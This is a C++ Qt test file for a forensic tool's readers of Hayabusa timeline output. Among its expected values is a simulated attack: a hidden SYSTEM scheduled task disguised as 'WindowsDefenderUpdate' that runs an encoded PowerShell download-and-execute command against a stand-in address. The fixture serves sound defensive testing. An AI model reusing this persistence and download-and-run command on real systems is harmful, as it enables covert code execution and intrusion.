#include "ingest/FormatRegistry.h"
#include "ingest/HayabusaCsvReader.h"
#include "ingest/HayabusaJsonReader.h"
#include "ingest/NormalizedEvent.h"

#include <QBuffer>
#include <QFile>
#include <QTest>

using namespace tb;

class TestHayabusaReaders : public QObject {
    Q_OBJECT

    static QString sample(const char *name) {
        return QStringLiteral(TEST_DATA_DIR "/formats/hayabusa/") + QLatin1String(name);
    }

    static QByteArray head(const QString &path) {
        QFile file(path);
        return file.open(QIODevice::ReadOnly) ? file.read(64 * 1024) : QByteArray();
    }

    // Reads with whatever reader the registry picks for the content.
    static QList<NormalizedEvent> readAll(QIODevice *device, const QString &formatId,
                                          QList<ImportIssue> *issues = nullptr) {
        const ImportFormat *format = FormatRegistry::instance().byId(formatId);
        if (!format)
            return {};
        auto reader = format->createReader(device, {QStringLiteral("f"), TimeNormalizer(), QString()});
        QList<NormalizedEvent> events;
        NormalizedEvent event;
        ImportIssue issue;
        for (;;) {
            const auto status = reader->next(event, issue);
            if (status == EventReader::Status::Event)
                events << event;
            else if (issues && status != EventReader::Status::End)
                issues->append(issue);
            if (status == EventReader::Status::End || status == EventReader::Status::Failed)
                break;
        }
        return events;
    }

    static QList<NormalizedEvent> readFile(const QString &path, const QString &formatId,
                                           QList<ImportIssue> *issues = nullptr) {
        QFile file(path);
        if (!file.open(QIODevice::ReadOnly))
            return {};
        return readAll(&file, formatId, issues);
    }

    static QList<NormalizedEvent> readBytes(QByteArray bytes, const QString &formatId,
                                            QList<ImportIssue> *issues = nullptr) {
        QBuffer buffer(&bytes);
        buffer.open(QIODevice::ReadOnly);
        return readAll(&buffer, formatId, issues);
    }

    static QString value(const NormalizedEvent &event, const QString &column) {
        const auto field = eventFieldByColumn(column);
        return field ? event.value(*field) : QStringLiteral("<no such column>");
    }

private slots:
    void detects_data() {
        QTest::addColumn<QString>("path");
        QTest::addColumn<QString>("format");
        QTest::newRow("csv") << sample("dfir-timeline_standard.csv") << "hayabusa.csv";
        QTest::newRow("jsonl") << sample("dfir-timeline_verbose_utc.jsonl") << "hayabusa.jsonl";
        QTest::newRow("json") << sample("dfir-timeline_standard.json") << "hayabusa.json";
    }
    void detects() {
        QFETCH(QString, path);
        QFETCH(QString, format);
        const ImportFormat *detected = FormatRegistry::instance().detect(FileHead::fromBytes(head(path)));
        QVERIFY(detected);
        QCOMPARE(detected->id, format);
    }

    void detectsHeads_data() {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<QString>("format");
        QTest::newRow("minimal profile")
            << QByteArray("\"Timestamp\",\"RuleTitle\",\"Level\",\"Computer\",\"Channel\",\"EventID\","
                          "\"RecordID\",\"Details\"\n")
            << "hayabusa.csv";
        QTest::newRow("timesketch profile")
            << QByteArray("\"datetime\",\"timestamp_desc\",\"message\",\"Level\",\"Computer\",\"Channel\","
                          "\"EventID\",\"RecordID\",\"Details\"\n")
            << "hayabusa.csv";
        QTest::newRow("old json array")
            << QByteArray("[\n{\"Timestamp\":\"2025-03-04 08:12:03.118 +00:00\",\"RuleTitle\":\"t\","
                          "\"Channel\":\"Sec\",\"EventID\":4698}\n]")
            << "hayabusa.json";
    }
    void detectsHeads() {
        QFETCH(QByteArray, bytes);
        QFETCH(QString, format);
        const ImportFormat *detected = FormatRegistry::instance().detect(FileHead::fromBytes(bytes));
        QVERIFY(detected);
        QCOMPARE(detected->id, format);
    }

    void counts_data() {
        QTest::addColumn<QString>("path");
        QTest::addColumn<QString>("format");
        QTest::addColumn<int>("count");
        QTest::newRow("csv") << sample("dfir-timeline_standard.csv") << "hayabusa.csv" << 13;
        QTest::newRow("jsonl") << sample("dfir-timeline_verbose_utc.jsonl") << "hayabusa.jsonl" << 13;
        QTest::newRow("json") << sample("dfir-timeline_standard.json") << "hayabusa.json" << 6;
    }
    void counts() {
        QFETCH(QString, path);
        QFETCH(QString, format);
        QFETCH(int, count);
        QList<ImportIssue> issues;
        const auto events = readFile(path, format, &issues);
        QVERIFY2(issues.isEmpty(), qPrintable(issues.value(0).toString()));
        QCOMPARE(events.size(), count);
        for (qsizetype i = 0; i < events.size(); ++i)
            QCOMPARE(events[i].recordNo, qint64(i));
    }

    // The three outputs of one Hayabusa run agree on what the analyst filters by. CSV collapses
    // whitespace inside values, so text is compared with runs of whitespace made single.
    void formatsAgree_data() {
        QTest::addColumn<QString>("column");
        for (const char *column : {"time_utc",
                                   "host",
                                   "host_fqdn",
                                   "user",
                                   "user_domain",
                                   "rule_name",
                                   "rule_id",
                                   "severity",
                                   "event_source",
                                   "event_code",
                                   "record_id",
                                   "command_line",
                                   "process_image",
                                   "process_pid",
                                   "parent_command_line",
                                   "parent_image",
                                   "task_name",
                                   "task_action",
                                   "task_operation",
                                   "task_run_as",
                                   "task_run_level",
                                   "task_logon_type",
                                   "task_trigger",
                                   "task_author",
                                   "task_hidden",
                                   "task_remote",
                                   "target_path"})
            QTest::newRow(column) << QString::fromLatin1(column);
    }
    void formatsAgree() {
        QFETCH(QString, column);
        const auto csv = readFile(sample("dfir-timeline_standard.csv"), QStringLiteral("hayabusa.csv"));
        const auto jsonl =
            readFile(sample("dfir-timeline_verbose_utc.jsonl"), QStringLiteral("hayabusa.jsonl"));
        const auto json = readFile(sample("dfir-timeline_standard.json"), QStringLiteral("hayabusa.json"));
        QCOMPARE(csv.size(), 13);
        QCOMPARE(jsonl.size(), 13);
        QCOMPARE(json.size(), 6);
        for (qsizetype i = 0; i < csv.size(); ++i) {
            QCOMPARE(jsonl[i].identity, csv[i].identity);
            QCOMPARE(value(jsonl[i], column).simplified(), value(csv[i], column).simplified());
            if (i < json.size()) {
                QCOMPARE(json[i].identity, csv[i].identity);
                QCOMPARE(value(json[i], column).simplified(), value(csv[i], column).simplified());
            }
        }
    }

    void sampleValues_data() {
        QTest::addColumn<QString>("path");
        QTest::addColumn<QString>("format");
        QTest::addColumn<int>("record");
        QTest::addColumn<QString>("column");
        QTest::addColumn<QString>("expected");
        const QString csv = sample("dfir-timeline_standard.csv");
        const QString jsonl = sample("dfir-timeline_verbose_utc.jsonl");
        const QString json = sample("dfir-timeline_standard.json");
        QTest::newRow("csv time") << csv << "hayabusa.csv" << 0 << "time_utc"
                                  << "2025-03-04T08:12:03.118000Z";
        QTest::newRow("csv time original") << csv << "hayabusa.csv" << 0 << "time_original"
                                           << "2025-03-04 17:12:03.118 +09:00";
        QTest::newRow("csv confidence") << csv << "hayabusa.csv" << 0 << "time_confidence"
                                        << "exact";
        QTest::newRow("csv task") << csv << "hayabusa.csv" << 0 << "task_name"
                                  << "\\Adobe Acrobat Update Task";
        QTest::newRow("csv machine account") << csv << "hayabusa.csv" << 0 << "user"
                                             << "WKS-FIN-023$";
        QTest::newRow("csv info") << csv << "hayabusa.csv" << 0 << "severity"
                                  << "informational";
        QTest::newRow("csv content action")
            << csv << "hayabusa.csv" << 0 << "task_action"
            << "C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe";
        QTest::newRow("csv content run as") << csv << "hayabusa.csv" << 0 << "task_run_as"
                                            << "NT AUTHORITY\\SYSTEM";
        QTest::newRow("csv content author") << csv << "hayabusa.csv" << 0 << "task_author"
                                            << "Adobe Systems Incorporated";
        QTest::newRow("csv local registration") << csv << "hayabusa.csv" << 0 << "task_remote"
                                                << "0";
        QTest::newRow("csv content logon type") << csv << "hayabusa.csv" << 3 << "task_logon_type"
                                                << "ServiceAccount";
        QTest::newRow("csv content run level") << csv << "hayabusa.csv" << 3 << "task_run_level"
                                               << "HighestAvailable";
        QTest::newRow("csv content At1 action") << csv << "hayabusa.csv" << 9 << "task_action"
                                                << "cmd /c C:\\Windows\\Temp\\svcupd.bat";
        QTest::newRow("csv deleted definition")
            << csv << "hayabusa.csv" << 11 << "task_action"
            << "powershell.exe -nop -w hidden -enc "
               "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA"
               "bABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgA"
               "dAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA1ADAALwBhAC4AcABzADEA"
               "JwApAA==";
        QTest::newRow("csv sysmon cmdline") << csv << "hayabusa.csv" << 1 << "command_line"
                                            << "schtasks /create /sc onlogon /tn \"WindowsDefenderUpdate\" "
                                               "/tr \"powershell.exe -nop -w hidden "
                                               "-enc "
                                               "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiA"
                                               "EMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbw"
                                               "BhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4"
                                               "AMQAxADMALgA1ADAALwBhAC4AcABzADEAJwA"
                                               "pAA==\" /ru SYSTEM /rl HIGHEST /f";
        QTest::newRow("csv schtasks name") << csv << "hayabusa.csv" << 1 << "task_name"
                                           << "\\WindowsDefenderUpdate";
        QTest::newRow("csv schtasks run as") << csv << "hayabusa.csv" << 1 << "task_run_as"
                                             << "NT AUTHORITY\\SYSTEM";
        QTest::newRow("csv parent from extra") << csv << "hayabusa.csv" << 1 << "parent_image"
                                               << "C:\\Users\\jdoe\\AppData\\Local\\Temp\\invoice_viewer.exe";
        QTest::newRow("csv pid") << csv << "hayabusa.csv" << 1 << "process_pid"
                                 << "7424";
        QTest::newRow("csv low") << csv << "hayabusa.csv" << 1 << "severity"
                                 << "low";
        QTest::newRow("csv high") << csv << "hayabusa.csv" << 2 << "severity"
                                  << "high";
        QTest::newRow("csv channel") << csv << "hayabusa.csv" << 1 << "event_source"
                                     << "Microsoft-Windows-Sysmon/Operational";
        QTest::newRow("csv 106 user") << csv << "hayabusa.csv" << 4 << "user"
                                      << "jdoe";
        QTest::newRow("csv 200 action") << csv << "hayabusa.csv" << 5 << "task_action"
                                        << "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
        QTest::newRow("csv 200 executed") << csv << "hayabusa.csv" << 5 << "task_operation"
                                          << "executed";
        QTest::newRow("csv remote At1") << csv << "hayabusa.csv" << 9 << "task_remote"
                                        << "1";
        QTest::newRow("csv 4699") << csv << "hayabusa.csv" << 11 << "task_operation"
                                  << "deleted";
        QTest::newRow("csv standard has no mitre") << csv << "hayabusa.csv" << 1 << "mitre"
                                                   << "";
        QTest::newRow("jsonl utc") << jsonl << "hayabusa.jsonl" << 0 << "time_original"
                                   << "2025-03-04 08:12:03.118 +00:00";
        QTest::newRow("jsonl mitre") << jsonl << "hayabusa.jsonl" << 1 << "mitre"
                                     << "[\"T1053.005\"]";
        QTest::newRow("jsonl typed pid") << jsonl << "hayabusa.jsonl" << 1 << "process_pid"
                                         << "7424";
        QTest::newRow("jsonl keeps spacing")
            << jsonl << "hayabusa.jsonl" << 1 << "command_line"
            << "schtasks  /create /sc onlogon /tn \"WindowsDefenderUpdate\" /tr "
               "\"powershell.exe -nop -w hidden -enc "
               "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA"
               "bABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgA"
               "dAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA1ADAALwBhAC4AcABzADEA"
               "JwApAA==\" /ru SYSTEM /rl HIGHEST /f";
        QTest::newRow("json task") << json << "hayabusa.json" << 3 << "task_name"
                                   << "\\WindowsDefenderUpdate";
        QTest::newRow("json 106") << json << "hayabusa.json" << 4 << "event_code"
                                  << "106";
    }
    void sampleValues() {
        QFETCH(QString, path);
        QFETCH(QString, format);
        QFETCH(int, record);
        QFETCH(QString, column);
        QFETCH(QString, expected);
        const auto events = readFile(path, format);
        QVERIFY(record < events.size());
        QCOMPARE(value(events[record], column), expected);
    }

    void twoRulesOneRecord() {
        const auto events = readFile(sample("dfir-timeline_standard.csv"), QStringLiteral("hayabusa.csv"));
        QCOMPARE(events[1].value(EventField::RecordId), events[2].value(EventField::RecordId));
        QVERIFY(events[1].identity != events[2].identity);
    }

    void taskContentKeptInRawFields_data() {
        QTest::addColumn<QString>("path");
        QTest::addColumn<QString>("format");
        QTest::addColumn<QString>("fragment");
        QTest::newRow("csv")
            << sample("dfir-timeline_standard.csv") << "hayabusa.csv"
            << "\"Details.Content\":\"<?xml version=\\\"1.0\\\" encoding=\\\"UTF-16\\\"?> <Task";
        QTest::newRow("jsonl")
            << sample("dfir-timeline_verbose_utc.jsonl") << "hayabusa.jsonl"
            << "\"Details.Content\":\"<?xml version=\\\"1.0\\\" encoding=\\\"UTF-16\\\"?>\\r\\n<Task";
        QTest::newRow("csv extra") << sample("dfir-timeline_standard.csv") << "hayabusa.csv"
                                   << "\"ExtraFieldInfo.SubjectUserSid\":\"S-1-5-18\"";
        QTest::newRow("json typed extra") << sample("dfir-timeline_standard.json") << "hayabusa.json"
                                          << "\"ExtraFieldInfo.ClientProcessId\":\"5108\"";
    }
    void taskContentKeptInRawFields() {
        QFETCH(QString, path);
        QFETCH(QString, format);
        QFETCH(QString, fragment);
        const auto events = readFile(path, format);
        QVERIFY(!events.isEmpty());
        QVERIFY2(events[0].rawFields.contains(fragment), qPrintable(events[0].rawFields.left(300)));
    }

    void repeatedKeysAreArrays() {
        const QByteArray line = "{ \"Timestamp\":\"2025-03-04 08:12:03.118 +00:00\",\"RuleTitle\":\"t\","
                                "\"Level\":\"med\",\"Computer\":\"h\",\"Channel\":\"Sec\",\"EventID\":5145,"
                                "\"RecordID\":1,\"Details\":{\"SrcIP\":[\"10.0.0.1\",\"10.0.0.2\"],"
                                "\"PID\":42,\"Flag\":true},\"RuleID\":\"r\" }";
        const auto events = readBytes(line, QStringLiteral("hayabusa.jsonl"));
        QCOMPARE(events.size(), 1);
        QCOMPARE(events[0].value(EventField::SourceIp), "10.0.0.1");
        QCOMPARE(events[0].value(EventField::Severity), "medium");
        QVERIFY(events[0].rawFields.contains("\"Details.SrcIP\":\"[\\\"10.0.0.1\\\",\\\"10.0.0.2\\\"]\""));
        QVERIFY(events[0].rawFields.contains("\"Details.Flag\":\"true\""));
    }

    void removeDuplicateDataOption() {
        const QByteArray lines =
            "{ \"Timestamp\":\"2025-03-04 08:12:03.118 +00:00\",\"RuleTitle\":\"a\",\"Computer\":\"h\","
            "\"Channel\":\"Sysmon\",\"EventID\":1,\"RecordID\":1,\"Details\":{\"Cmdline\":\"schtasks /run "
            "/tn x\"} }\n"
            "{ \"Timestamp\":\"2025-03-04 08:12:03.118 +00:00\",\"RuleTitle\":\"b\",\"Computer\":\"h\","
            "\"Channel\":\"Sysmon\",\"EventID\":1,\"RecordID\":1,\"Details\":{\"Cmdline\":\"DUP\"} }";
        const auto events = readBytes(lines, QStringLiteral("hayabusa.jsonl"));
        QCOMPARE(events.size(), 2);
        QCOMPARE(events[1].value(EventField::CommandLine), "schtasks /run /tn x");
        QCOMPARE(events[1].value(EventField::TaskOperation), "executed");
    }

    void badRecords_data() {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<QString>("format");
        QTest::addColumn<QString>("expected"); // the message, or its beginning
        QTest::newRow("csv bad time")
            << QByteArray("\"Timestamp\",\"RuleTitle\",\"Computer\",\"Channel\",\"EventID\",\"RecordID\"\n"
                          "\"soon\",\"t\",\"h\",\"Sec\",4698,1\n")
            << "hayabusa.csv"
            << "f:record 0 (line 2): Timestamp: \"soon\" is not a time this reader understands";
        QTest::newRow("csv invalid UTF-8")
            << QByteArray("\"Timestamp\",\"RuleTitle\",\"Computer\",\"Channel\",\"EventID\",\"Details\"\n"
                          "\"2025-03-04 17:12:03.118 +09:00\",\"t\",\"h\",\"Sec\",4698,\"Name: \\\\x\xff\"\n")
            << "hayabusa.csv"
            << "f:record 0 (line 2): cell 6 is not valid UTF-8";
        QTest::newRow("jsonl not json") << QByteArray("{ \"Timestamp\": nope }") << "hayabusa.jsonl"
                                        << "f:record 0 (line 1): not valid JSON: ";
    }
    void badRecords() {
        QFETCH(QByteArray, bytes);
        QFETCH(QString, format);
        QFETCH(QString, expected);
        QList<ImportIssue> issues;
        const auto events = readBytes(bytes, format, &issues);
        QCOMPARE(events.size(), 0);
        QCOMPARE(issues.size(), 1);
        // simdjson's own wording follows the expected prefix.
        QVERIFY2(issues[0].toString().startsWith(expected), qPrintable(issues[0].toString()));
    }
};

QTEST_GUILESS_MAIN(TestHayabusaReaders)
#include "tst_hayabusareaders.moc"
